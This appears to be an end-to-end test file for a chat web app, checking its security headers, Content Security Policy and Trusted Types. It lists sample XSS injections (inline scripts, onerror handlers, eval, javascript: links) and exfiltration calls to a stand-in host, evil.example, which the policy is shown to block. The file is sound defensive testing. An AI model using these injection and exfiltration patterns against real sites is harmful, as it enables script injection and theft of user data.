// The security headers of the built page: they are set, they block attacks, and they block nothing of ours.

import { createHash } from "node:crypto";
import type { BrowserContext } from "playwright-core";
import { afterAll, describe, expect, it } from "vitest";
import { browser, openBrowser, product } from "../e2e/opened.ts";
import { Visitor } from "../e2e/product.ts";

openBrowser();

const policy = {
	"default-src": "'none'",
	"script-src": "'self'",
	"style-src": "'self'",
	"img-src": "'self' blob:",
	"media-src": "'self' blob:",
	"font-src": "'self'",
	"connect-src": "'self'",
	"manifest-src": "'self'",
	"worker-src": "'self'",
	"frame-src": "'self'",
	"base-uri": "'none'",
	"form-action": "'none'",
	"frame-ancestors": "'none'",
	"object-src": "'none'",
	"require-trusted-types-for": "'script'",
	"trusted-types": "service-worker",
};

describe("a preview of a link", () => {
	const read = async (path: string) => {
		const response = await fetch(`${product.url}${path}`, { headers: { "user-agent": "Slackbot-LinkExpanding 1.0" } });
		const tags = (await response.text()).matchAll(/<meta (?:property|name)="((?:og|twitter):[^"]+)" content="([^"]*)"/g);
		return {
			tags: Object.fromEntries([...tags].map(([, name, content]) => [name, content])),
			robots: response.headers.get("x-robots-tag"),
		};
	};

	it("has a title, a description and a picture, and is the same for every conversation and invite", async () => {
		const home = await read("/");
		expect(home.tags).toMatchObject({ "og:title": "Parley", "og:description": expect.any(String), "og:type": "website" });
		expect(home.robots).toBeNull();
		expect(home.tags).toMatchObject({ "og:url": `${product.url}/`, "og:image": `${product.url}/icon-512.png` });
		expect((await fetch(home.tags["og:image"] ?? "")).headers.get("content-type")).toBe("image/png");
		for (const [path, address] of [
			["/c/abc?at=3", "/c/abc"],
			["/invite", "/invite"],
			["/invite/some.secret", "/invite"],
			["/device", "/device"],
		])
			expect(await read(path ?? "")).toEqual({ tags: { ...home.tags, "og:url": `${product.url}${address}` }, robots: "noindex" });
	});

	it("leaves the page cacheable", async () => {
		const { headers } = await fetch(`${product.url}/c/abc`);
		const again = await fetch(`${product.url}/c/abc`, { headers: { "if-none-match": headers.get("etag") ?? "" } });
		expect(again.status).toBe(304);
	});

	it("may be made by every crawler", async () => {
		const robots = await fetch(`${product.url}/robots.txt`);
		expect(robots.headers.get("content-type")).toContain("text/plain");
		expect(await robots.text()).not.toMatch(/Disallow: \/(c|invite|$)/m);
	});
});

describe("the headers", () => {
	it("are set on the page, its files, and every address that shows the page", async () => {
		const page = await (await fetch(product.url)).text();
		const [script] = /\/assets\/[\w-]+\.js/.exec(page) ?? [];
		const [style] = /\/assets\/[\w-]+\.css/.exec(page) ?? [];
		for (const path of [
			"/",
			"/c/x",
			"/invite",
			"/conversations/x",
			"/no/such/place",
			"/icon.svg",
			"/sw.js",
			"/manifest.webmanifest",
			script,
			style,
		]) {
			const { headers } = await fetch(`${product.url}${path}`);
			const directives = headers.get("content-security-policy")?.split("; ") ?? [];
			expect(Object.fromEntries(directives.map((one) => one.split(/ (.*)/)))).toEqual(policy);
			expect(Object.fromEntries(headers)).toMatchObject({
				"strict-transport-security": expect.stringMatching(/^max-age=\d{8}$/),
				"x-content-type-options": "nosniff",
				"x-dns-prefetch-control": "off",
				"referrer-policy": "no-referrer",
				"permissions-policy": expect.stringMatching(/microphone=\(self\).*camera=\(\).*geolocation=\(\)/),
				"cross-origin-opener-policy": "same-origin",
				"cross-origin-resource-policy": "same-origin",
			});
		}
	});

	it("let the frame that draws diagrams run its one script, reach nothing, and be framed by the page alone", async () => {
		const worker = await (await fetch(`${product.url}/sw.js`)).text();
		expect(worker).not.toContain('.htm"');
		const page = await (await fetch(product.url)).text();
		const scripts = [...worker.matchAll(/\/assets\/DrawnDiagram[\w-]*\.js/g)].map(([path]) => path);
		expect(page).not.toContain("DrawnDiagram");
		const drawing = await (await fetch(`${product.url}${scripts[0]}`)).text();
		const [path] = /\/diagrams\/\w+\.htm/.exec(drawing) ?? [];
		const response = await fetch(`${product.url}${path}`);
		expect(response.headers.get("content-type")).toBe("text/html; charset=utf-8");
		expect(response.headers.get("cache-control")).toBe("public, max-age=31536000");
		const [, script = ""] = /<script>(.*)<\/script>/s.exec(await response.text()) ?? [];
		const hash = createHash("sha256").update(script).digest("base64");
		expect(response.headers.get("content-security-policy")).toBe(
			`default-src 'none'; script-src 'sha256-${hash}'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-scripts`,
		);
		expect(response.headers.get("x-content-type-options")).toBe("nosniff");
	});

	it("block nothing that the product does", async () => {
		const ann = await Visitor.arrive(browser);
		await ann.page.addInitScript(() => {
			document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => console.error(effectiveDirective));
		});
		await ann.signIn(product.url, "Ann");
		await ann.newConversation();
		await ann.invite();
		await ann.page.keyboard.press("Escape");
		await ann.say("a table, please");
		await ann.answered();
		await ann.say("code");
		await ann.log.getByRole("button", { name: "Copy code" }).click();
		await ann.log.getByRole("button", { name: "Copied" }).waitFor();
		await ann.page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
		await ann.page.reload();
		await ann.connected();
		expect(await ann.page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toBe(`${product.url}/sw.js`);
		expect(ann.complaints).toEqual([]);
		await ann.leave();
	});

	it("keep the sign-in in memory and in a cookie that no script can read", async () => {
		const ann = await Visitor.arrive(browser);
		let token = "";
		ann.page.on("request", (request) => {
			token = /^Bearer (.+)/.exec(request.headers().authorization ?? "")?.[1] ?? token;
		});
		await ann.signIn(product.url, "Ann");
		await ann.newConversation();
		await ann.say("Hello");
		expect(token).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
		const { kept, cookies } = await ann.page.evaluate(() => ({
			kept: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
			cookies: document.cookie,
		}));
		expect(kept).not.toContain(token.split(".")[2]);
		expect(cookies).toBe("");
		await ann.leave();
	});
});

declare function harm(): void;

/** These functions run in the page as source text, so they can use nothing from this file. */
const injections: [what: string, directive: string, inject: () => unknown][] = [
	["an inline script", "script-src-elem", () => document.body.append(Object.assign(document.createElement("script"), { text: "harm()" }))],
	[
		"an inline script of text nodes",
		"script-src-elem",
		() => {
			const script = document.createElement("script");
			script.append("harm()");
			document.body.append(script);
		},
	],
	[
		"a handler",
		"script-src-attr",
		() => {
			document.body.setAttribute("onclick", "harm()");
			document.body.click();
		},
	],
	[
		"HTML",
		"script-src-attr",
		() => {
			document.body.innerHTML = "<img src=/x.svg onload=harm() onerror=harm()>";
		},
	],
	// biome-ignore lint/security/noGlobalEval: it is what must not work.
	["eval", "script-src", () => setTimeout(() => globalThis.eval("harm()"))],
	["a function of text", "script-src", () => setTimeout(() => new Function("harm()")())],
	["a timer of text", "script-src", () => setTimeout("harm()")],
	[
		"a script's address",
		"script-src-elem",
		() => {
			const link = Object.assign(document.createElement("a"), { href: "javascript:harm()" });
			document.body.append(link);
			link.click();
		},
	],
	[
		"a script from elsewhere",
		"script-src-elem",
		() => {
			document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: "https://evil.example/x.js" }));
		},
	],
	[
		"a worker of text",
		"worker-src",
		() => {
			const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
			worker.onmessage = () => harm();
		},
	],
	["a picture from elsewhere", "img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/i.png" }))],
	[
		"a picture by style",
		"img-src",
		() => {
			document.body.style.backgroundImage = "url(https://evil.example/i.png)";
		},
	],
	[
		"inline style",
		"style-src-elem",
		() => {
			const style = document.createElement("style");
			style.append("@import url(https://evil.example/x.css)");
			document.body.append(style);
		},
	],
	[
		"style from elsewhere",
		"style-src-elem",
		() => {
			document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }));
		},
	],
	["a question elsewhere", "connect-src", () => fetch("https://evil.example/?q=secret")],
	["a socket elsewhere", "connect-src", () => new WebSocket("wss://evil.example")],
	["a beacon", "connect-src", () => navigator.sendBeacon("https://evil.example", "secret")],
	["a frame", "frame-src", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example" }))],
	[
		"an object",
		"object-src",
		() => document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example" })),
	],
	["a film", "media-src", () => document.body.append(Object.assign(document.createElement("video"), { src: "https://evil.example/v" }))],
	[
		"another base",
		"base-uri",
		() => {
			document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
			if (document.baseURI.startsWith("https://evil.example/")) harm();
		},
	],
	[
		"a form",
		"form-action",
		() => {
			const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
			document.body.append(form);
			form.submit();
		},
	],
];

/** The policy as it is; as it is for a browser without Trusted Types; and none at all. */
type Strictness = "whole" | "without Trusted Types" | "none";

const contexts = new Map<Strictness, Promise<BrowserContext>>();

afterAll(() => Promise.all([...contexts.values()].map(async (context) => (await context).close())));

/** A browser to which the product's first page comes empty, with the headers of this strictness. */
function contextFor(strictness: Strictness): Promise<BrowserContext> {
	const context = contexts.get(strictness) ?? emptyPages(strictness);
	contexts.set(strictness, context);
	return context;
}

async function emptyPages(strictness: Strictness): Promise<BrowserContext> {
	const context = await browser.newContext({ bypassCSP: strictness === "none", serviceWorkers: "block" });
	const response = await fetch(product.url);
	const headers = Object.fromEntries(response.headers);
	const whole = headers["content-security-policy"] ?? "";
	if (strictness === "without Trusted Types") headers["content-security-policy"] = whole.replace(/; (require-)?trusted-types.*/, "");
	await context.route(`${product.url}/`, (route) => route.fulfill({ headers, body: "<!doctype html><title>Empty</title><body></body>" }));
	return context;
}

/** Returns the first effect of an injection: harm, or the directive that blocked it. */
async function outcome(inject: () => unknown, strictness: Strictness): Promise<string> {
	const page = await (await contextFor(strictness)).newPage();
	const first = Promise.withResolvers<string>();
	const harm = () => first.resolve("harm");
	await page.exposeFunction("harm", harm);
	await page.exposeFunction("offended", first.resolve);
	await page.route("https://evil.example/**", (route) => {
		harm();
		return route.fulfill({ body: "" });
	});
	page.on("websocket", harm);
	await page.goto(product.url);
	await page.evaluate(() => {
		const { offended } = window as unknown as { offended(directive: string): void };
		document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => offended(effectiveDirective));
	});
	// A blocked attack may throw, which must not fail the test.
	await page.evaluate(inject).catch(() => {});
	const result = await first.promise;
	await page.close();
	return result;
}

describe("the policy alone blocks", () => {
	it.each(injections)("%s", async (_what, directive, inject) => {
		expect(await outcome(inject, "none")).toBe("harm");
		expect(await outcome(inject, "without Trusted Types")).toBe(directive);
		expect(await outcome(inject, "whole")).toBeOneOf([directive, "require-trusted-types-for"]);
	});
});

/** The outcome of an attack on a page whose service worker is ready. */
async function tried(attack: () => unknown): Promise<string> {
	const ann = await Visitor.arrive(browser);
	await ann.page.goto(product.url);
	await ann.page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
	const result = await ann.page.evaluate(attack).then(
		() => "done",
		(error: Error) => error.message,
	);
	await ann.leave();
	return result;
}

declare const trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): TrustedScriptURL } };
declare class TrustedScriptURL {
	toString(): string;
}

describe("the only Trusted Types policy", () => {
	it("is created once, by the page itself", async () => {
		const result = await tried(() => trustedTypes.createPolicy("service-worker", { createScriptURL: (url: string) => url }));
		expect(result).toContain("already exists");
	});

	it.each<[what: string, attack: () => unknown]>([
		["cannot be joined by another one", () => trustedTypes.createPolicy("harm", { createScriptURL: (url: string) => url })],
		["cannot be preceded by a default one", () => trustedTypes.createPolicy("default", { createScriptURL: (url: string) => url })],
	])("%s", async (_what, attack) => {
		expect(await tried(attack)).toContain("disallowed");
	});

	it.each<[what: string, attack: () => unknown]>([
		["a service worker by its plain address, even our own", () => navigator.serviceWorker.register("/sw.js")],
		["another service worker", () => navigator.serviceWorker.register("/assets/x.js")],
		["a worker", () => new Worker("/sw.js")],
	])("is required, and its absence blocks %s", async (_what, attack) => {
		expect(await tried(attack)).toMatch(/requires 'TrustedScriptURL'/);
	});
});
